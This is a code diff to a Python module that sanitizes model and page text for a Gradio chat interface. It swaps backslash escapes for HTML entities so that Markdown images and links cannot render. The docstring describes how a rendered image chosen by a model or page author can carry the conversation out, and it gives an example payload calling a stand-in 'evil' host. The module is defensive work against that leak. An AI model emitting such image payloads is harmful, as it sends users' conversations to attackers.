@@ -12,7 +12,8 @@ Decisions, in one place:
   labelled "image: alt"; reference images (`![alt][ref]`, `![alt][]`, `![alt]` with a
   definition) become the same link to the definition's URL; any other `![` left (an image
   written in a form this module does not parse, e.g. alt text across lines) gets its `[`
-  escaped, so Markdown cannot read an image there at all. A rendered image is a request to
+  written as the entity `&#91;`, so Markdown cannot read an image there at all. A rendered
+  image is a request to
   a URL the model or a page author chose, which can carry the conversation to them
   (`![x](http://evil/?q=...)`); a click is the reader's choice, a render is not.
 - Raw HTML is shown as text, not interpreted: every `<` that would open a tag, comment,
@@ -25,7 +26,9 @@ Decisions, in one place:
   becomes the same anchor an inline link would, and no definition is left for Markdown to
   turn into a link or image this module never saw.
 - Short fields (titles, addresses, notices, page reasons) are not Markdown at all:
-  `plain_text` escapes HTML and the brackets every link and image needs, and `|` for tables.
+  `plain_text` escapes HTML, and writes the brackets every link and image needs, `!`, `|`,
+  backslash and backtick as numeric entities. Entities, not backslashes: Gradio's Markdown
+  was seen rendering `!\\[t\\](url)` inside a link's text as an image (test_browser_exfil).
 - Gradio's Markdown sanitizes HTML too and adds rel="noopener noreferrer" to external links;
   this module does not count on it (a setting or an upgrade could change it).
 """
@@ -54,6 +57,10 @@ _DEFINITION = re.compile(
 _REF_IMAGE = re.compile(r"!\[([^\]\n]*)\](?:\[([^\]\n]*)\])?")
 _REF_LINK = re.compile(r"(?<![!\\])\[([^\]\n]+)\](?:\[([^\]\n]*)\])?(?![(:])")
 _TAG_OPEN = re.compile(r"<(?=[A-Za-z/!?])")
+# Markdown's syntax characters as numeric entities: the browser shows the character, and no
+# Markdown reader takes an entity for syntax. (A backslash escape is not enough: Gradio's
+# Markdown renders `[x !\[t\](url)](href)` with an image inside the link.)
+_ENTITIES = str.maketrans({c: f"&#{ord(c)};" for c in "[]!|\\`"})
 _CITATION = re.compile(r"\d+(?:\s*,\s*\d+)*")
 
 
@@ -76,9 +83,8 @@ def safe_markdown(text: str) -> str:
 
 def plain_text(text: str) -> str:
     """A short untrusted field (a title, an address, a notice) shown as text: no HTML, no
-    link or image syntax, no table cell break."""
-    text = html.escape(text or "", quote=False)
-    return text.replace("\\", "\\\\").replace("|", "\\|").replace("[", "\\[").replace("]", "\\]")
+    link or image syntax, no table cell break (see _ENTITIES)."""
+    return html.escape(text or "", quote=False).translate(_ENTITIES)
 
 
 def safe_url(url: str) -> str | None:
@@ -100,9 +106,8 @@ def markdown_href(url: str) -> str:
 def link_title(text: str) -> str:
     """`text` safe inside a Markdown link title ("..."): one line, no quote or backslash
     that could close it, brackets and HTML escaped."""
-    text = " ".join(text.split()).replace("\\", "/").replace('"', "'")
-    text = html.escape(text, quote=False)
-    return text.replace("[", "\\[").replace("]", "\\]")
+    text = " ".join(text.split()).replace('"', "'")
+    return html.escape(text, quote=False).translate(_ENTITIES)
 
 
 def link_html(label: str, url: str) -> str:
@@ -131,7 +136,7 @@ def _prose(part: str, definitions: dict[str, str]) -> str:
         alt, ref = m.group(1), m.group(2)
         url = definitions.get(_label(ref or alt))
         if url is None:
-            return "!\\[" + m.group(0)[2:]  # no image syntax left for Markdown to read
+            return "!&#91;" + m.group(0)[2:]  # no image syntax left for Markdown to read
         return _as_link("image: " + (alt or "untitled"), url)
 
     part = _REF_IMAGE.sub(ref_image, part)
@@ -146,7 +151,7 @@ def _prose(part: str, definitions: dict[str, str]) -> str:
 
     if definitions:
         part = _REF_LINK.sub(ref_link, part)
-    return part.replace("![", "!\\[")
+    return part.replace("![", "!&#91;")
 
 
 def _as_link(label: str, url: str) -> str:
